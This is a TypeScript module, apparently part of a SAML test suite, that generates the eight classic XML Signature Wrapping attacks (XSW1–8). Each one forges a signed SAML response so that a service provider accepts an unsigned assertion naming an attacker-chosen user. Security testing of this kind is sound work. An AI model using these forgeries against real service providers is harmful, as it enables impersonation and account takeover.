import { randomSamlId } from '../response.ts';
import { child, el, NS } from '../xml.ts';
import {
  type AttackOptions,
  evilCopy,
  evilNameIdOf,
  finish,
  genuine,
  impersonate,
  unsignedCopy,
} from './shared.ts';

/*
 * XML Signature Wrapping, the eight classic shapes of Somorovsky et al., "On Breaking SAML: Be
 * Whoever You Want to Be" (USENIX Security 2012), numbered as SAML Raider numbers them. In each
 * the signed original is still in the message, so a verifier that looks the reference up by ID
 * wherever it is finds a valid signature, while the SP reads a different, unsigned element that
 * names the evil user.
 *
 * XSW1–2 go after the Response signature: they start from a response whose Response alone is
 * signed. XSW3–8 go after the Assertion signature: they start from a response whose Assertion
 * alone is signed (no attacker can keep a Response signature valid while changing its content).
 * A strict SP refuses all eight for the missing signature alone; to prove the targeted check,
 * run each against an SP that requires only the targeted signature (see samlIdp.test.ts).
 */

/**
 * XSW1: an evil Response (new ID, evil assertion) that keeps the original Signature; a copy of
 * the original Response, without its signature, is put right after the Signature, inside.
 */
export function xsw1(opts: AttackOptions) {
  const { doc, response } = genuine(opts, { assertion: false, response: true });
  const signature = child(response, NS.ds, 'Signature');
  const original = unsignedCopy(response);
  response.setAttribute('ID', randomSamlId());
  impersonate(child(response, NS.saml, 'Assertion'), evilNameIdOf(opts));
  response.insertBefore(original, signature.nextSibling);
  return finish(doc);
}

/** XSW2: as XSW1, but the copy of the original Response goes before the Signature (detached). */
export function xsw2(opts: AttackOptions) {
  const { doc, response } = genuine(opts, { assertion: false, response: true });
  const signature = child(response, NS.ds, 'Signature');
  const original = unsignedCopy(response);
  response.setAttribute('ID', randomSamlId());
  impersonate(child(response, NS.saml, 'Assertion'), evilNameIdOf(opts));
  response.insertBefore(original, signature);
  return finish(doc);
}

/** XSW3: an unsigned evil Assertion (new ID) inserted before the signed original one. */
export function xsw3(opts: AttackOptions) {
  const { doc, response, assertion } = genuine(opts, { assertion: true, response: false });
  response.insertBefore(evilCopy(assertion, opts), assertion);
  return finish(doc);
}

/** XSW4: an unsigned evil Assertion takes the original's place and wraps the signed original. */
export function xsw4(opts: AttackOptions) {
  const { doc, response, assertion } = genuine(opts, { assertion: true, response: false });
  const evil = evilCopy(assertion, opts);
  response.replaceChild(evil, assertion);
  evil.appendChild(assertion);
  return finish(doc);
}

/**
 * XSW5: the signed Assertion itself is changed to the evil user and given a new ID, keeping its
 * Signature; an unsigned copy of the original (which the reference resolves to) is appended at
 * the end of the Response.
 */
export function xsw5(opts: AttackOptions) {
  const { doc, response, assertion } = genuine(opts, { assertion: true, response: false });
  const original = unsignedCopy(assertion);
  assertion.setAttribute('ID', randomSamlId());
  impersonate(assertion, evilNameIdOf(opts));
  response.appendChild(original);
  return finish(doc);
}

/**
 * XSW6: as XSW5, but the unsigned copy of the original goes inside the evil assertion's
 * Signature, after its KeyInfo.
 */
export function xsw6(opts: AttackOptions) {
  const { doc, assertion } = genuine(opts, { assertion: true, response: false });
  const original = unsignedCopy(assertion);
  assertion.setAttribute('ID', randomSamlId());
  impersonate(assertion, evilNameIdOf(opts));
  child(assertion, NS.ds, 'Signature').appendChild(original);
  return finish(doc);
}

/**
 * XSW7: an Extensions block before the signed Assertion carries an unsigned evil Assertion, for
 * SPs that read the first Assertion anywhere in the message. (The signed original stays where
 * it was: an SP reading only the verified assertion gets the original user.)
 */
export function xsw7(opts: AttackOptions) {
  const { doc, response, assertion } = genuine(opts, { assertion: true, response: false });
  const extensions = el(doc, NS.samlp, 'samlp:Extensions', {}, evilCopy(assertion, opts));
  response.insertBefore(extensions, child(response, NS.samlp, 'Status'));
  return finish(doc);
}

/**
 * XSW8: as XSW6, but the unsigned copy of the original goes in a ds:Object inside the evil
 * assertion's Signature (where XML-DSig allows arbitrary content).
 */
export function xsw8(opts: AttackOptions) {
  const { doc, assertion } = genuine(opts, { assertion: true, response: false });
  const original = unsignedCopy(assertion);
  assertion.setAttribute('ID', randomSamlId());
  impersonate(assertion, evilNameIdOf(opts));
  child(assertion, NS.ds, 'Signature').appendChild(el(doc, NS.ds, 'ds:Object', {}, original));
  return finish(doc);
}
